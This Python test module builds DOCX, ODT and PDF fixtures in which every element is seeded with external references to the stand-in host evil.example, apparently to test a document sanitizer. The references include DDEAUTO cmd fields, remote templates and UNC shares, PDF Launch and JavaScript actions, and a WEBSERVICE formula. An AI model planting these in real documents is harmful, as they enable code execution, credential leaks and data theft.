"""Documents whose every place leads outside: each way that is known, planted at each place."""

from __future__ import annotations

import io
from collections.abc import Iterator, Mapping
from typing import Any

import pikepdf
from lxml import etree
from pikepdf import Array, Dictionary, Name, Stream

from tests.support import files
from tests.support.files import W

HOST = "evil.example"
ADDRESSES = (
    f"http://{HOST}/a.png",
    f"HTTPS://{HOST}/a",
    f"//{HOST}/share/a.dotx",
    rf"\\{HOST}\share\a.dotx",
    f"file:///{HOST}/a",
    f"mhtml:http://{HOST}/a.html!x-usc:http://{HOST}/a.html",
    f"mailto:one@{HOST}",
    f"javascript:open('{HOST}')",
    f"ms-word:ofe|u|{HOST}",
    rf"C:\{HOST}\a.docx",
    f"../../../{HOST}",
    f"%2F%2F{HOST}/a",
    f" http://{HOST}/b",
)
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
RELATION_KINDS = (
    *("hyperlink", "image", "oleObject", "attachedTemplate", "aFChunk", "subDocument", "frame"),
    *(
        "control",
        "video",
        "audio",
        "mailMergeSource",
        "externalLinkPath",
        "header",
        "styles",
        "new",
    ),
)
OFFICE_SPACES = (
    f'xmlns:w="{W}" xmlns:r="{R}" xmlns:a="{A}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:n="urn:new"'
)
DOCUMENT = f"""<w:document {OFFICE_SPACES}><w:body>
<w:p><w:r><w:t>First </w:t></w:r><w:hyperlink r:id="x0" w:history="1"><w:r><w:t>link</w:t></w:r>
</w:hyperlink><w:r><w:t> tail</w:t></w:r></w:p>
<w:tbl><w:tr><w:tc><w:p><w:r><w:t>Cell</w:t></w:r></w:p></w:tc></w:tr></w:tbl>
<w:p><w:r><w:drawing><a:graphic><a:blip r:embed="i1"/></a:graphic></w:drawing></w:r>
<w:r><w:pict><v:shape style="width:9pt"><v:imagedata r:id="i1"/></v:shape></w:pict></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>7</w:t></w:r>
<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"""
HEADER = f"<w:hdr {OFFICE_SPACES}><w:p><w:r><w:t>Head</w:t></w:r></w:p></w:hdr>"
OFFICE_WAYS = tuple(
    each.replace("@", address.replace("&", "&amp;"))
    for address in ADDRESSES
    for each in (
        '<w:altChunk r:id="x1"/>',
        '<w:object><o:OLEObject r:id="x2" Type="Link" ProgID="htmlfile"/></w:object>',
        '<w:object><w:control r:id="x3" w:name="Any"/></w:object>',
        '<a:blip r:link="x4"/>',
        '<v:imagedata src="@" r:href="x5"/>',
        '<v:shape href="@" style="background:url(@)"/>',
        '<a:hlinkClick r:id="x6" action="ppaction://program"/>',
        '<w:attachedTemplate r:id="x7"/>',
        '<w:subDoc r:id="x8"/>',
        '<w:dataBinding w:prefixMappings="@" w:xpath="/a"/>',
        '<w:frame><w:sourceFileName r:id="x9"/></w:frame>',
        '<n:new go="@"/>',
        '<w:new w:go="@" n:go="@"/>',
        '<w:fldSimple w:instr="INCLUDEPICTURE &quot;@&quot; \\d"/>',
    )
)
FIELDS = tuple(
    each.replace("@", address)
    for address in ADDRESSES
    for each in (
        'INCLUDEPICTURE "@" \\d',
        'includetext "@"',
        'LINK Excel.Sheet "@" R1C1',
        'DDEAUTO cmd "@" a',
        'DDE cmd "@" a',
        'HYPERLINK "@"',
        'HYPERLINK \\l "a" "@"',
        'IMPORT "@"',
        'RD "@"',
        'NEW "@"',
        'PAGE "@"' if "://" in address or address.startswith("\\") else 'MACROBUTTON Go "@"',
    )
)


def _run(inside: str) -> str:
    return f"<w:r {OFFICE_SPACES}>{inside}</w:r>"


def make_field(instruction: str, shown: str) -> list[etree._Element]:
    """The runs of a field whose instruction is cut in two and hides the text of another field."""
    half = len(instruction) // 2
    said = [
        etree.fromstring(_run("<w:instrText/>")),
        etree.fromstring(_run("<w:instrText/>")),
    ]
    said[0][0].text, said[1][0].text = instruction[:half], instruction[half:]
    mark = '<w:fldChar w:fldCharType="{}"/>'
    hidden = [_run(mark.format("begin")), _run("<w:instrText> SEQ a </w:instrText>")]
    hidden += [_run(mark.format("separate")), _run("<w:t>hidden</w:t>"), _run(mark.format("end"))]
    return [
        etree.fromstring(_run(mark.format("begin"))),
        *said,
        *map(etree.fromstring, hidden),
        etree.fromstring(_run(mark.format("separate"))),
        etree.fromstring(_run(f"<w:t>{shown}</w:t>")),
        etree.fromstring(_run(mark.format("end"))),
    ]


def make_office_relations(kept: str = "") -> bytes:
    """Every kind of relation to every address, from outside and as if from inside."""
    rows = [
        f'<Relationship Id="x{number}" Type="{R}/{kind}" TargetMode="{mode}"/>'
        for number, (kind, mode) in enumerate(
            (kind, mode)
            for kind in RELATION_KINDS
            for mode in ("External", "Internal", "new")
            for _ in ADDRESSES
        )
    ]
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    root = etree.fromstring(f'<Relationships xmlns="{space}">{kept}{"".join(rows)}</Relationships>')
    outside = [each for each in root if each.get("Id", "").startswith("x")]
    for number, each in enumerate(outside):
        each.set("Target", ADDRESSES[number % len(ADDRESSES)])
    whole: bytes = etree.tostring(root)
    return whole


def make_office_parts() -> dict[str, bytes]:
    """A document with every way in every element and between all runs."""
    picture = f'<Relationship Id="i1" Type="{R}/image" Target="media/image1.jpeg"/>'
    relations = make_office_relations(picture)
    return {
        **files.docx_parts(),
        "word/document.xml": _planted_office(DOCUMENT),
        "word/header1.xml": _planted_office(HEADER),
        "word/_rels/document.xml.rels": relations,
        "word/_rels/header1.xml.rels": relations,
        "word/_rels/settings.xml.rels": relations,
        "word/settings.xml": _planted_office(f"<w:settings {OFFICE_SPACES}><w:zoom/></w:settings>"),
        "_rels/.rels": make_office_relations(
            f'<Relationship Id="d1" Type="{R}/officeDocument" Target="/word/document.xml"/>'
        ),
    }


def _planted_office(text: str) -> bytes:
    root = etree.fromstring(text)
    paragraphs = list(root.iter(f"{{{W}}}p"))
    shows = {f"{{{W}}}{name}" for name in ("t", "instrText", "fldChar")}
    for element in [e for e in root.iter(etree.Element) if e.tag not in shows]:
        if element.getparent() is None or element.getparent().tag != f"{{{W}}}r":
            for way in OFFICE_WAYS if len(element) < 20 else OFFICE_WAYS[:14]:
                element.append(etree.fromstring(f"<n:a {OFFICE_SPACES}>{way}</n:a>")[0])
        element.set("href", ADDRESSES[0])
        element.set(f"{{{W}}}val", ADDRESSES[3])
    for paragraph in paragraphs:
        for number, instruction in enumerate(FIELDS):
            for each in make_field(instruction, f"shown {number} "):
                paragraph.append(each)
    planted: bytes = etree.tostring(root)
    return planted


def pdf_ways(document: pikepdf.Pdf) -> Mapping[str, Any]:
    """Values under the keys of every dictionary, by key."""
    spec = document.make_indirect(Dictionary(Type=Name.Filespec, F=HOST, UF=HOST))
    actions = [
        Dictionary(S=Name.URI, URI=f"http://{HOST}"),
        Dictionary(S=Name.Launch, F=spec, Win=Dictionary(F=HOST, P=HOST), NewWindow=True),
        Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=f"http://{HOST}")),
        Dictionary(S=Name.ImportData, F=spec),
        Dictionary(S=Name.GoToR, F=rf"\\{HOST}\a.pdf", D=Array([0, Name.Fit])),
        Dictionary(S=Name.GoToE, F=spec, T=Dictionary(R=Name.C, N=HOST)),
        Dictionary(S=Name.JavaScript, JS=f"app.launchURL('http://{HOST}')"),
        Dictionary(S=Name.Named, N=Name("/Print")),
        Dictionary(S=Name.Rendition, R=Dictionary(C=Dictionary(D=spec)), OP=0, JS=HOST),
        Dictionary(S=Name.Sound, Sound=spec),
        Dictionary(S=Name.Movie, T=HOST),
        Dictionary(S=Name.RichMediaExecute, CMD=Dictionary(C=HOST)),
        Dictionary(S=Name.Thread, F=spec, D=0),
        Dictionary(S=Name.New, New=HOST),
    ]
    chain: list[Any] = []
    for action in actions:
        chain.append(document.make_indirect(action))
    inside = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]))
    led = Dictionary({**dict(inside.items()), "/Next": Array(chain), "/URI": HOST})
    ways: dict[str, Any] = {f"/A {number}": action for number, action in enumerate(chain)}
    ways |= {"/A led": document.make_indirect(led), "/A many": Array(chain)}
    ways |= {"/Next 1": Array(chain), "/Next 2": chain[0], "/PA": chain[0]}
    ways |= {"/AA": Dictionary({f"/{key}": chain[6] for key in "OCKFVEXDU"})}
    ways |= {"/OpenAction": chain[6], "/URI": Dictionary(Base=HOST), "/JS": HOST, "/XFA": HOST}
    ways |= {"/F 1": spec, "/F 2": HOST, "/FFilter": Name.FlateDecode, "/EF": Dictionary(F=spec)}
    ways |= dict.fromkeys(("/AF", "/RF", "/Sound", "/Movie", "/Ref", "/OPI", "/FS", "/New"), spec)
    ways |= {"/RichMediaContent": Dictionary(Assets=spec), "/R": Dictionary(C=spec), "/UF": HOST}
    return ways


def pdf_with_ways(number: int) -> bytes:
    """A document with every part of the format, and the way of this number in each dictionary."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make_pdf())) as document:
        places = [each for each in document.objects if isinstance(each, Dictionary | Stream)]
        places += [inner for each in places for inner in _inner(each)]
        key, value = list(pdf_ways(document).items())[number]
        if isinstance(value, Dictionary | Array) and not value.is_indirect:
            value = document.make_indirect(value)
        for each in places:
            name = key.partition(" ")[0]
            if not (name == "/R" and "/N" in each) and not (name == "/Next" and "/Title" in each):
                each[name] = value
        document.save(out, compress_streams=False, static_id=True)
    return out.getvalue()


def _inner(holder: Any) -> Iterator[Any]:
    for key in list(holder.keys()):
        one = holder[key]
        if isinstance(one, Dictionary) and not one.is_indirect:
            yield one
            yield from _inner(one)


def make_pdf() -> bytes:
    """Text, a picture, links, a form, an outline, a structure, and notes of every kind."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(files.pdf())) as document:
        page = document.pages[0]
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.Resources["/Font"] = Dictionary({"/F": document.make_indirect(font)})
        page.Contents = document.make_stream(
            b"q 50 0 0 50 0 0 cm /I Do Q BT /F 12 Tf 60 60 Td (Visible words) Tj ET"
        )
        kinds = ("Link", "Text", "FileAttachment", "Screen", "Movie", "Sound", "RichMedia", "3D")
        notes = [
            document.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=[0, 0, 9, 9], F=4)
            )
            for kind in (*kinds, "Widget")
        ]
        notes[-1].update(Dictionary(FT=Name.Btn, T="box", Ff=65536))
        page.Annots = Array(notes)
        document.Root["/AcroForm"] = Dictionary(Fields=Array([notes[-1]]))
        entry = document.make_indirect(
            Dictionary(Title="One", Dest=Array([page.obj, Name.Fit]), Count=0)
        )
        entry["/Parent"] = document.Root["/Outlines"] = document.make_indirect(
            Dictionary(First=entry, Last=entry, Count=1)
        )
        tree = document.make_indirect(Dictionary(Type=Name.StructTreeRoot))
        tree["/K"] = Dictionary(S=Name.P, P=tree, A=Dictionary(O=Name.Layout), K=0, Pg=page.obj)
        document.Root["/StructTreeRoot"] = tree
        document.save(out, static_id=True)
    return out.getvalue()


ODF = "urn:oasis:names:tc:opendocument:xmlns:"
ODF_SPACES = " ".join(
    [f'xmlns:{name}="{ODF}{name}:1.0"' for name in ("office", "text", "table", "form", "script")]
    + [
        f'xmlns:draw="{ODF}drawing:1.0" xmlns:svg="{ODF}svg-compatible:1.0"',
        'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:n="urn:new"',
        'xmlns:field="urn:openoffice:names:experimental:ooo-ms-interop:xmlns:field:1.0"',
    ]
)
CONTENT = f"""<office:document-content {ODF_SPACES}><office:body><office:text>
<text:h>Title</text:h><text:p>First <text:a xlink:href="#Chapter">link</text:a> tail</text:p>
<text:section text:name="S"><text:p>In a section</text:p></text:section>
<table:table><table:table-row><table:table-cell><text:p>Cell</text:p></table:table-cell>
</table:table-row></table:table><text:list><text:list-item><text:p>Item</text:p></text:list-item>
</text:list><text:p><draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame></text:p>
</office:text></office:body></office:document-content>"""
STYLES = f"<office:document-styles {ODF_SPACES}><office:master-styles/></office:document-styles>"
ODF_WAYS = (
    '<draw:image xlink:href="@" xlink:actuate="onLoad"/>',
    '<text:a xlink:href="@">word</text:a>',
    '<draw:a xlink:href="@"><draw:frame/></draw:a>',
    '<text:section-source xlink:href="@"/>',
    '<office:dde-source office:dde-application="@" office:dde-topic="a"/>',
    '<text:dde-connection-decls><text:dde-connection-decl office:dde-topic="@"/>'
    "</text:dde-connection-decls>",
    '<text:dde-connection text:connection-name="@">word</text:dde-connection>',
    '<office:scripts><office:script script:language="@"/></office:scripts>',
    '<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="@"/>'
    "</office:event-listeners>",
    '<text:script xlink:href="@"/>',
    '<text:execute-macro text:name="@">word</text:execute-macro>',
    '<draw:object xlink:href="@"/>',
    '<draw:object-ole xlink:href="@"/>',
    '<draw:plugin xlink:href="@"/>',
    '<draw:applet draw:archive="@" xlink:href="@"/>',
    '<draw:floating-frame xlink:href="@"/>',
    '<office:forms><form:form xlink:href="@"/></office:forms>',
    '<table:table-source xlink:href="@"/>',
    '<svg:font-face-src><svg:font-face-uri xlink:href="@"/></svg:font-face-src>',
    '<field:fieldmark-start><field:param field:value="@"/></field:fieldmark-start>',
    '<text:bibliography-mark text:url="@">word</text:bibliography-mark>',
    '<n:new go="@"/>',
    '<text:new text:go="@" n:go="@"/>',
)


def make_odt_parts() -> dict[str, bytes]:
    """A text with every way in every element."""
    parts = {"content.xml": _planted_odt(CONTENT), "styles.xml": _planted_odt(STYLES)}
    return {**files.odt_parts(), **parts}


def _planted_odt(text: str) -> bytes:
    root = etree.fromstring(text)
    for element in list(root.iter(etree.Element)):
        for address in ADDRESSES:
            for way in ODF_WAYS:
                element.append(
                    etree.fromstring(f"<n:a {ODF_SPACES}>{way.replace('@', address)}</n:a>")[0]
                )
        element.set("go", ADDRESSES[0])
        element.set(f"{{{ODF}table:1.0}}formula", f'of:=WEBSERVICE("http://{HOST}")')
    planted: bytes = etree.tostring(root)
    return planted
